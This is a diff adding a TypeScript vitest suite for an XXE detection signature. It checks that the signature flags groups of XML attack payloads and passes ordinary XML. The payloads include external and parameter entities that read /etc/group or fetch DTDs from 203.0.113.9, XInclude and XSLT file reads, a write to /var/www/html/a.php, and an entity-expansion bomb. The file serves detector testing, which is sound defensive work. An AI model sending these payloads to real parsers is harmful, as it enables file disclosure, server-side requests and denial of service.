@@ -1,0 +1,80 @@
+import { describe, expect, test } from 'vitest';
+import type { HttpRequest } from '../../src/request/http-request.ts';
+import { xxe } from '../../src/signatures/xxe.ts';
+import { firstMatch, json } from '../paths/request-of.ts';
+
+const find = firstMatch.bind(null, xxe);
+const xml = (body: string | Uint8Array, contentType = 'application/xml'): Partial<HttpRequest> => ({
+  method: 'POST',
+  contentType,
+  body,
+});
+
+const FAMILIES: Readonly<Record<string, readonly string[]>> = {
+  'external entities': [
+    '<!DOCTYPE o [<!ENTITY a SYSTEM "jar:http://203.0.113.9/a.jar!/b">]><o>&a;</o>',
+    '<!DOCTYPE o [<!ENTITY a SYSTEM "netdoc:/etc/group">]><o>&a;</o>',
+    '<!DOCTYPE o [<!ENTITY a PUBLIC "any" "file:///etc/group">]><o>&a;</o>',
+    "<!doctype o [\n<!entity\ta\tsystem\n'//203.0.113.9/x'>\n]><o>&a;</o>",
+    '<!DOCTYPE o [<!ENTITY a SYSTEM "">]><o>&a;</o>',
+  ],
+  'parameter entities': [
+    '<!DOCTYPE o [<!ENTITY % d SYSTEM "http://203.0.113.9/d.dtd"> %d;]><o/>',
+    '<!DOCTYPE o [%elsewhere;]><o/>',
+    '<!DOCTYPE o [<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % c "x"> %l;]><o/>',
+  ],
+  'document types of strangers': [
+    '<!DOCTYPE o PUBLIC "-//O//O" "http://203.0.113.9/o.dtd"><o/>',
+    '<!DOCTYPE o SYSTEM "ftp://203.0.113.9/o.dtd"><o/>',
+  ],
+  probes: [
+    '<!DOCTYPE o [<!ELEMENT o ANY>]><o/>',
+    '<!DOCTYPE o [<!NOTATION n SYSTEM "file:///etc/group">]><o/>',
+    '<!DOCTYPE o [<!ENTITY greeting "hello">]><o>&greeting;</o>',
+  ],
+  growth: [
+    `<!DOCTYPE o [<!ENTITY a "ha">${'bcdefg'.replace(/./g, (n) => `<!ENTITY ${n} "${`&${String.fromCharCode(n.charCodeAt(0) - 1)};`.repeat(9)}">`)}]><o>&g;</o>`,
+  ],
+  inclusion: [
+    '<o xmlns:z="http://www.w3.org/2001/XInclude"><z:include parse="text" href="/etc/group"/></o>',
+    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="php://filter/resource=a"/></svg>',
+    '<soap:Envelope><soap:Body><![CDATA[<!DOCTYPE o [<!ENTITY % d SYSTEM "http://203.0.113.9/"> %d;]>]]></soap:Body></soap:Envelope>',
+    '<?xml-stylesheet type="text/xsl" href="file:///etc/group"?><o/>',
+    '<wsdl:import location="http://203.0.113.9/a.wsdl"/>',
+  ],
+  'style sheets': [
+    '<xsl:value-of select="document(\'/etc/group\')"/>',
+    '<xsl:value-of select="unparsed-text(\'file:///etc/group\')"/>',
+    '<xsl:result-document href="/var/www/html/a.php">x</xsl:result-document>',
+    '<xsl:value-of select="system-property(\'xsl:vendor\')"/>',
+  ],
+  'encodings that hide': [
+    '<?xml version="1.0" encoding="UTF-7"?>+ADw-o+AD4-',
+    '<?xml version="1.0" encoding="IBM037"?>Lo',
+  ],
+};
+
+describe.each(Object.entries(FAMILIES))('%s', (_, documents) => {
+  test.each(documents)('%.90s', (document) => {
+    expect(find(xml(document))?.confidence).toBeGreaterThanOrEqual(0.5);
+    expect(find(xml(Buffer.from(`\ufeff${document}`, 'utf16le')))?.confidence).toBeGreaterThanOrEqual(0.5);
+  });
+});
+
+test('a piece of markup in a field is enough when it names a file of the server', () => {
+  expect(find(json('html', '<fo:external-graphic src="file:///etc/group"/>'))?.confidence).toBeGreaterThanOrEqual(0.7);
+  expect(find(json('html', '<img src="file:///C:/Users/ann/beach.jpg">'))).toBeUndefined();
+});
+
+test.each([
+  '<!DOCTYPE html><html lang="en"><body>hello</body></html>',
+  '<!DOCTYPE note SYSTEM "note.dtd"><note/>',
+  '<?xml version="1.0" encoding="UTF-16"?><order id="1"/>',
+  '<?xml version="1.0" encoding="ISO-8859-1"?><order id="1"/>',
+  '<!DOCTYPE o [<!ENTITY nbsp "&#160;"><!ELEMENT o (p)*><!ELEMENT p (#PCDATA)>]><o><p>a&nbsp;b</p></o>',
+  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><b><xsl:value-of select="a"/></b></xsl:template></xsl:stylesheet>',
+  '<wsdl:definitions><wsdl:types/><wsdl:import namespace="urn:a" location="a.wsdl"/></wsdl:definitions>',
+  '<project xmlns="http://maven.apache.org/POM/4.0.0"><version>[1.0,2.0)</version></project>',
+])('ordinary document: %.80s', (document) => {
+  expect(find(xml(document))).toBeUndefined();
+});
